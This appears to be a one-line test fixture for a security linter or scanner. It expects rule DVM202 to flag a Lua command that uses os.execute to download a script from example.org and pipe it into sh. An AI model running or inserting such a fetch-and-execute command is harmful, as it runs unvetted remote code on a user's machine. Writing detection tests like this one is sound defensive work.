# expect: DVM202
lua -e 'os.execute("curl -fsSL https://example.org/i.sh | sh")'
